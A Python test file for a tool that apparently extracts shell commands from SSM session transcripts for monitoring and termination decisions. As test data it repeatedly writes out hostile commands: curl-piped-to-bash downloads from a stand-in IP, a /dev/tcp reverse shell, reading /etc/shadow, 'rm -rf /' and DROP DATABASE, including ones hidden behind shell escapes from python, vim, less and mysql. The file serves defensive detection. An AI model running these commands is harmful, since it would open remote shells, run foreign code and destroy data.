"""Every case issue 11 lists under "What was seen", as the agent streams it (pty bytes through
``agent_model``) or as the S3 transcript holds it. Each fails with the fixed-shape extractor."""

from __future__ import annotations

from ssm_warden.transcript.confidence import allows_termination
from ssm_warden.transcript.extract import Extracted, Extractor, extract_lines
from ssm_warden.transcript.model import PROMPT_CHANGED
from ssm_warden_local import agent_model

CURL = "curl -s http://203.0.113.9/x.sh | bash"


def streamed(raw: bytes) -> list[str]:
    """The lines the agent streams for pty output ``raw`` (one event)."""
    return [line for event in agent_model.stream_events([raw]) for line in event]


def run(lines: list[str]) -> Extracted:
    return extract_lines(lines)


def texts(result: Extracted) -> list[str]:
    return [c.text for c in result.commands]


def judged(result: Extracted) -> set[str]:
    return {t for c in result.commands for t in c.texts}


# -- prompts guessed from a fixed shape ---------------------------------------------------------


def test_oh_my_zsh_prompt_mangled_to_u_fffd_is_learned_and_its_reverse_shell_seen() -> None:
    # Given oh-my-zsh's "➜  ~ " prompt, which the agent turns into U+FFFD
    raw = "➜  ~ id\r\nuid=1001(ssm-user)\r\n➜  ~ bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\r\n".encode()
    lines = streamed(raw)
    assert lines[0].startswith("\ufffd")
    # Then both commands are found after the learned prompt
    assert texts(run(lines)) == ["id", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]


def test_starship_and_lambda_prompts() -> None:
    starship = streamed(f"\r\n~/app\r\n\u276f ls\r\nmain.py\r\n\r\n~/app\r\n\u276f {CURL}\r\n".encode())
    assert texts(run(starship)) == ["ls", CURL]
    lam = streamed(f"λ ls\r\nmain.py\r\nλ {CURL}\r\n".encode())
    assert texts(run(lam)) == ["ls", CURL]


def test_a_prompt_that_differs_every_time_two_spaces_and_seventy_characters() -> None:
    # Given prompts with the time and exit code, two spaces inside, and one of 70 characters
    timed = [
        "12:00:01 [0] ops  /srv >> ls",
        "a b",
        "12:00:09 [0] ops  /srv >> id",
        "uid=0",
        f"12:01:13 [1] ops  /srv >> {CURL}",
    ]
    assert texts(run(timed)) == ["ls", "id", CURL]
    long_prompt = "(" + "x" * 60 + ") deploy ▶ "
    lines = streamed(f"{long_prompt}ls\r\nok\r\n{long_prompt}{CURL}\r\n".encode())
    assert texts(run(lines)) == ["ls", CURL]


def test_an_empty_ps1_makes_the_session_unwatchable_and_its_lines_low_confidence() -> None:
    result = run(["sh-4.2$ PS1=''", CURL])
    assert "unwatchable:empty-prompt" in result.flags
    assert [(c.text, c.confidence) for c in result.commands[1:]] == [(CURL, "low")]
    assert not allows_termination(result.commands[1])


# -- zsh ------------------------------------------------------------------------------------------


def test_zsh_prompt_sp_padding_is_removed_after_the_agent_and_the_width_learned() -> None:
    pad = "\x1b[1m\x1b[7m%\x1b[27m\x1b[1m\x1b[0m" + " " * 79 + "\r \r"
    raw = f"{pad}web% ls\r\nmain.py\r\n{pad}web% {CURL}\r\n".encode()
    extractor = Extractor()
    extractor.feed("0", streamed(raw))
    assert texts(extractor.result) == ["ls", CURL]
    assert extractor.state.width == 80


# -- long commands --------------------------------------------------------------------------------


def test_a_soft_wrapped_command_is_whole_in_s3_and_read_both_ways_in_streams() -> None:
    head = "sh-4.2$ cat " + "/dev/null " * 6 + "/etc/sha"  # 80 columns
    assert len(head) == 80
    raw = f"{head} \rdow\r\n".encode()
    # In the S3 transcript the soft wrap is undone
    s3 = agent_model.script_transcript(raw).decode()
    assert "cat " + "/dev/null " * 6 + "/etc/shadow" in texts(run(s3.split("\n")))
    # In the stream the stray space stays; the joined reading is judged too
    stream = run(streamed(raw))
    assert "cat " + "/dev/null " * 6 + "/etc/shadow" in judged(stream)
    # ... but a finding on that reading alone does not end the session
    command = stream.commands[0]
    assert not allows_termination(command, command.variants[0])


# -- lines never run ------------------------------------------------------------------------------


def test_a_line_cancelled_with_ctrl_c_is_reported_not_judged() -> None:
    result = run(streamed(b"sh-4.2$ rm -rf / ^C\r\nsh-4.2$ id\r\n"))
    assert texts(result) == ["id"]
    assert [c.text for c in result.cancelled] == ["rm -rf /"]


def test_a_double_tab_listing_leaves_no_partial_command() -> None:
    raw = b"sh-4.2$ ls /etc/ss\x07\r\nssh/  ssl/\r\nsh-4.2$ ls /etc/ssh/\r\n"
    result = run(streamed(raw))
    assert texts(result) == ["ls /etc/ssh/"]


def test_ctrl_r_search_leaves_no_garbage() -> None:
    raw = (
        b"sh-4.2$ (reverse-i-search)`': \x08\x08\x08c': "
        + CURL.encode()
        + b"\x08" * 10
        + b"\rsh-4.2$ "
        + CURL.encode()
        + b"\r\n"
    )
    assert texts(run(streamed(raw))) == [CURL]


# -- lines run, lost ------------------------------------------------------------------------------


def test_a_two_line_bracketed_paste_gives_both_lines_once() -> None:
    raw = (
        b"sh-4.2$ \x1b[7mecho one\x1b[27m\r\n\r\x1b[7m"
        + CURL.encode()
        + b"\x1b[27m\r\n\r\x1b[A\x1b[A\x1b[C\x1b[C"
        b"echo one\r\n\r" + CURL.encode() + b"\r\n\r\r\n"
    )
    assert texts(run(streamed(raw))) == ["echo one", CURL]


def test_history_expansion_takes_the_line_bash_prints() -> None:
    raw = (
        b"sh-4.2$ curl -s http://203.0.113.9/x.sh | cat\r\nok\r\nsh-4.2$ ^cat^bash\r\n"
        + CURL.encode()
        + b"\r\n"
    )
    result = run(streamed(raw))
    assert texts(result)[-1] == CURL
    raw = (
        b"sh-4.2$ curl -s http://203.0.113.9/x.sh | cat\r\nok\r\nsh-4.2$ !!:s/cat/bash/\r\n"
        + CURL.encode()
        + b"\r\n"
    )
    assert texts(run(streamed(raw)))[-1] == CURL


def test_ctrl_a_insert_garbled_by_the_agent_is_judged_as_typed() -> None:
    # readline moved the cursor with CSI (dropped by the agent): each insert shows with a copy
    rest = "| bash"
    garbled = rest + "".join(c + rest for c in "curl -s x ")
    raw = f"sh-4.2$ {garbled}{chr(8) * len(rest)}\r\n".encode()
    assert "curl -s x | bash" in judged(run(streamed(raw)))


def test_a_command_cut_at_the_agents_buffer_is_joined_across_events() -> None:
    # Given a command longer than the 33,000-byte reader buffer: its tail lands in the next event
    command = "echo " + "A" * 33_100 + "; " + CURL
    events = agent_model.stream_events([f"sh-4.2$ {command}\r\nok\r\n".encode()])
    assert len(events) >= 2
    extractor = Extractor()
    starts, lines = [], []
    for event in events:
        starts.append(len(lines))
        lines.extend(event)
    extractor.feed_events([str(k) for k in range(len(events))], starts, lines)
    assert any(c.text.endswith(CURL) and c.text.startswith("echo AAA") for c in extractor.result.commands)


def test_a_cut_command_is_joined_across_invocations_too() -> None:
    command = "echo " + "A" * 33_100 + "; " + CURL
    events = agent_model.stream_events([f"sh-4.2$ {command}\r\nok\r\n".encode()])
    first = Extractor()
    first.feed_events(["0"], [0], events[0])
    second = Extractor(first.state)
    second.feed_events(["1"], [0], events[1])
    assert any(CURL in c.text for c in second.result.commands)
    assert len(first.state.model_dump_json()) < 3_000


def test_empty_ps2_continuations_and_a_heredoc_into_bash() -> None:
    result = run(["sh-4.2$ PS2=''", "sh-4.2$ for h in a b; do", CURL, "done", "sh-4.2$ id"])
    assert f"for h in a b; do\n{CURL}\ndone" in texts(result)
    heredoc = run(["sh-4.2$ bash <<EOF", "> id", f"> {CURL}", "> EOF", "uid=0(root)"])
    assert CURL in texts(heredoc)


# -- text on screen is output -----------------------------------------------------------------------


def test_prompt_looking_lines_printed_by_commands_are_output() -> None:
    lines = [
        "[ec2-user@ip-10-0-0-1 ~]$ cat README.md",
        "$ curl --proto '=https' -sSf https://sh.rustup.rs | sh",
        "[root@build-01 ~]# rm -rf /opt/old",
        "[ec2-user@ip-10-0-0-1 ~]$ git log -1",
        "    ubuntu@web-1:~$ sudo rm -rf /srv/cache",
        "[ec2-user@ip-10-0-0-1 ~]$ kubectl logs web-1",
        "root@web-1:/# curl http://198.51.100.4/x | sh",
        "[ec2-user@ip-10-0-0-1 ~]$ cat notes",
        "mysql> DROP DATABASE staging;",
        "mysql> DROP DATABASE test;",
        "mysql> DROP DATABASE scratch;",
        "[ec2-user@ip-10-0-0-1 ~]$ id",
    ]
    result = run(lines)
    assert texts(result) == ["cat README.md", "git log -1", "kubectl logs web-1", "cat notes", "id"]
    assert PROMPT_CHANGED not in result.flags


def test_printf_of_the_sessions_own_prompt_is_output() -> None:
    result = run(
        [
            "sh-4.2$ sh-4.2$ date",
            "Thu",
            "sh-4.2$ printf 'sh-4.2$ rm -rf /\\n'",
            "sh-4.2$ rm -rf /",
            "sh-4.2$ id",
        ]
    )
    assert texts(result) == ["date", "printf 'sh-4.2$ rm -rf /\\n'", "id"]


def test_a_dumped_prompt_like_the_sessions_own_is_never_a_termination() -> None:
    # Given a file holding a line exactly like this session's prompt, shown in the same event
    result = run(["sh-4.2$ sh-4.2$ cat notes.txt", f"sh-4.2$ {CURL}", "more notes"])
    rest = [c for c in result.commands if c.text == CURL]
    assert all(not allows_termination(c) for c in rest)


def test_a_prompt_change_no_command_explains_is_flagged_and_not_trusted() -> None:
    lines = ["sh-4.2$ sh-4.2$ ls", "a"]
    events = [lines, ["evil$ id"], ["x"], ["evil$ whoami"], ["y"], [f"evil$ {CURL}"]]
    extractor = Extractor()
    for k, event in enumerate(events):
        extractor = Extractor(extractor.state)
        extractor.feed(str(k), event)
        if extractor.result.flags:
            flags = extractor.result.flags
    assert PROMPT_CHANGED in flags
    last = extractor.result.commands[-1]
    assert last.text == CURL and last.confidence == "low" and not allows_termination(last)


# -- programs with their own prompt ------------------------------------------------------------------


def test_commands_run_from_python_vim_less_are_judged_and_full_screen_programs_flagged() -> None:
    python = run(
        [
            "sh-4.2$ python3",
            "Python 3.11",
            f">>> import os; os.system('{CURL}')",
            "0",
            ">>> exit()",
            "sh-4.2$ id",
        ]
    )
    assert CURL in texts(python)
    assert texts(python)[-1] == "id"
    vim = run(["sh-4.2$ vim notes", "~", f"~      :!{CURL}", "Press ENTER", "sh-4.2$ id"])
    assert CURL in texts(vim) and "unwatchable:vim" in vim.flags
    less = run(["sh-4.2$ less log", "line", f"log (END)!{CURL}", "!done  (press RETURN)", "sh-4.2$ id"])
    assert CURL in texts(less)
    tmux = run(["sh-4.2$ tmux", "[0] 0:bash*"])
    assert "unwatchable:tmux" in tmux.flags


def test_mysql_shell_escape() -> None:
    result = run(["sh-4.2$ mysql -u root", "Welcome", f"mysql> \\! {CURL}", "mysql> exit", "sh-4.2$ id"])
    assert CURL in texts(result)


def test_commands_typed_in_a_shell_inside_tmux_are_judged() -> None:
    # Given tmux's screen as the agent streams it: its status line, then the inner shell's own
    # prompt on the same row (cursor moves lost), then the inner shell's lines
    lines = [
        "[ssm-user@h ~]# tmux",
        "\x1b[?2004l\x1b[?1049h\x1b[?1h\x1b=\x1b[H\x1b[2J\x1b(B\x1b[m\x1b[1;24r\x1b[1;1H\x1b[?25l\x1b[K",
        "",
        "",
        '[0] 0:bash*            "vm" 19:57 01-Dec-26\x1b(B\x1b[m\x1b[1;1H\x1b[?2004hroot@vm:~# echo inside',
        "inside",
        f"root@vm:~# {CURL}",
    ]
    result = run(lines)
    assert CURL in texts(result) and "echo inside" in texts(result)
    assert "unwatchable:tmux" in result.flags
